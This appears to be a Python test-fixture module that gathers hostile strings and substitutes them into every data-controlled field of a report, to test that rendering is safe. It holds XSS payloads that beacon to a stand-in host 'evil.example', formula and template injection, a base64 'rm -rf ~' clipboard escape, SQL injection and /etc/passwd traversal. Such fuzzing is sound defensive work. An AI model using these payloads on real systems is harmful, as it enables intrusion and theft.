"""Texts that data or a model may hold and that do harm wherever they are taken for more.

Used for every face of a report. What a script among them would do is to set ``window.CANARY``
and ask ``HOST``; nothing may ever do either.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterable
from typing import Any

HOST = "evil.example"
CANARY = "__pwned"
_JS = f"window.{CANARY}=1;document.title='pwned';new Image().src='http://{HOST}/js'"

SCRIPTS = (
    f"<script>{_JS}</script>",
    f"</script><script>{_JS}</script>",
    f"<SCRIPT SRC=http://{HOST}/x.js></SCRIPT>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f'<script type="module">{_JS}</script>',
    f"</title></style></textarea></pre><script>{_JS}</script>",
    f"--></script><script>{_JS}</script><!--",
    f"<![CDATA[<script>{_JS}</script>]]>",
    f"]]><script>{_JS}</script>",
    f"<noscript><p title=\"</noscript><script>{_JS}</script>\">",
    f"<template><script>{_JS}</script></template>",
    f"\x00<script\x00>{_JS}</script>",
    f"<svg><script>{_JS}</script></svg>",
    f"<math><mtext><script>{_JS}</script></mtext></math>",
)  # fmt: skip

HANDLERS = (
    f'<img src=x onerror="{_JS}">',
    f'"><img src=x onerror="{_JS}">',
    f'\'><img src=x onerror="{_JS}">',
    f'" onmouseover="{_JS}" x="',
    f"' onfocus='{_JS}' autofocus='",
    f'<svg onload="{_JS}">',
    f'</svg><svg onload="{_JS}">',
    f'<svg><animate onbegin="{_JS}" attributeName=x dur=1s>',
    f'<body onload="{_JS}">',
    f'<details open ontoggle="{_JS}">x</details>',
    f'<input autofocus onfocus="{_JS}">',
    f'<video><source onerror="{_JS}"></video>',
    f'<audio src=x onerror="{_JS}">',
    f'<marquee onstart="{_JS}">x</marquee>',
    f'<div style="animation: x 1s" onanimationstart="{_JS}">x</div>',
    f'<img/src="x"/onerror="{_JS}"/>',
)

FETCHES = (
    f'<img src="http://{HOST}/i.png">',
    f'<iframe src="http://{HOST}/"></iframe>',
    f'<iframe srcdoc="<script>parent.{CANARY}=1</script>"></iframe>',
    f'<object data="http://{HOST}/o"></object>',
    f'<embed src="http://{HOST}/e">',
    f'<link rel=stylesheet href="http://{HOST}/s.css">',
    f'<link rel=prefetch href="http://{HOST}/p"><link rel=dns-prefetch href="//{HOST}">',
    f'<base href="http://{HOST}/">',
    f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    f'<meta http-equiv="refresh" content="0;javascript:{_JS}">',
    f"<style>@import 'http://{HOST}/i.css'; * {{ background: url(http://{HOST}/b) }}</style>",
    f"</style><style>body {{ display: none }} h1 {{ background: url(//{HOST}/h) }}</style>",
    f'" style="background: url(http://{HOST}/a); position: fixed; inset: 0" x="',
    "<style>*{visibility:hidden!important}",
    f'<form action="http://{HOST}/"><button>send</button><input name=a></form>',
    f'<svg><image href="http://{HOST}/v.png"/><use href="http://{HOST}/u#x"/></svg>',
    f'<video poster="http://{HOST}/v" src="http://{HOST}/v.mp4"></video>',
)

LINKS = (
    f"javascript:{_JS}",
    f'<a href="javascript:{_JS}">a link</a>',
    f"data:text/html,<script>{_JS}</script>",
    f"[a link](javascript:{_JS})",
    f"![an image](http://{HOST}/i.png)",
    f"http://{HOST}/ and www.{HOST} and <http://{HOST}/>",
    f"[link=http://{HOST}/]rich[/link] [/red] [bold]",
    "@someone #12 org/repo#3 GH-4",
)

TERMINAL = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "\x1b]0;a title\x07 \x1b]8;;http://evil.example\x1b\\a link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07 \x1bP+q544e\x1b\\ \x9b31m",
    "back\b\b\b\b\bspace \r over \x7f \x07 bell",
)

FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1",
)  # fmt: skip

TEMPLATES = (
    "{{7*7}} {{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1} #{7*7} <%= 7*7 %>",
    "{% raw %}{0.__class__} %s %n %(x)s \\u003cscript\\u003e",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp",
    "'; DROP TABLE runs; -- \" OR 1=1",
    "../../../etc/passwd C:\\x\\..\\y file:///etc/passwd",
)

UNICODE = (
    "\u202eevil\u202c \u2066isolate\u2069 \u200f\u200e \u061c",
    "a\u0300\u0301\u0302\u0303" + "\u0316\u0317\u0318\u0319" * 200 + "flood",
    "\ud800 lone \udfff surrogates \udc00\ud800",
    "nul \x00 byte \ufffe \uffff \U0010ffff",
    "ﷺ" * 50 + "𒐫" * 20,
    "tag \U000e0041\U000e0042 \u200b\u200b\ufeff zero width \u2060",
    "line\u2028separator\u2029paragraph\x0b\x0c\x85next",
    "مرحبا שלום \u200fabc\u200f 123",
    "＜script＞ ‹script› ʺ onload=x",
)

LONG = (
    "A" * 1_000_000,
    "<b>" * 100_000,
    "word " * 200_000,
    "\n" * 100_000 + "end",
)

TEXTS: tuple[str, ...] = (
    *SCRIPTS, *HANDLERS, *FETCHES, *LINKS, *TERMINAL, *FORMULAS, *TEMPLATES, *UNICODE, *LONG,
)  # fmt: skip

NAMED = ("errors", "added_by", "refused", "seconds", "definitions", "causes_known", "failed",
         "scores", "baseline", "kept")  # fmt: skip
"""Keys of a document whose value is a mapping with keys from data, models or plugins."""
OURS = ("schema", "label", "against", "state", "name", "sql")
"""Keys whose text can only be the core's own."""


def filled(document: Any, texts: Iterable[str]) -> Any:
    """The document with these texts in turn in every place that others can fill.

    What was equal stays equal, so that names still lead to what they name.
    """
    supply = itertools.cycle(texts)
    known: dict[str, str] = {}

    def text_for(value: str) -> str:
        if value not in known:
            known[value] = next(supply)
        return known[value]

    def walk(value: Any, parent: str) -> Any:
        if isinstance(value, dict):
            return {
                text_for(key) if parent in NAMED else key: walk(
                    item, "" if parent in NAMED else key
                )
                for key, item in value.items()
            }
        if isinstance(value, list):
            return [walk(item, parent) for item in value]
        return text_for(value) if isinstance(value, str) and parent not in OURS else value

    return walk(document, "")
